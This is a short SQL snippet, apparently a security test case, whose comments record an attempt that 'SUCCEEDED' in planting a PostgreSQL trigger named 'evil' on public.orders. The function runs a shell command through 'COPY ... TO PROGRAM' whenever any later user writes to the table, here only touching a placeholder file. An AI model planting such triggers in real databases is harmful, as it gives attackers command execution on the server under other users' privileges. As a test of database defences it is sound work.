-- tries: a trigger on the schema's table that the next writer runs
-- ends: SUCCEEDED
-- leaves: function public.evil() | trigger evil on public.orders
create function evil() returns trigger language plpgsql as $$ begin execute 'copy (select 1) to program ''touch ${FILE}'''; return new; end $$;
create trigger evil before insert or update or delete on orders for each row execute function evil();
